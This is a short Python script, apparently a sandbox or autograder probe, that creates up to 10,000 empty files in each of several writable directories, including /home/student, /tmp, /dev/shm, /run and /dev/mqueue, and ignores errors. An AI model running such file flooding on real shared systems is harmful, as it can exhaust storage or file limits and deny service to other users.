import os as _os

for _folder in ("/home/student", "/tmp", "/dev/shm", "/run", "/dev/mqueue"):
    try:
        for _number in range(10_000):
            _os.close(_os.open(f"{_folder}/{_number}", _os.O_CREAT | _os.O_WRONLY))
    except OSError:
        continue
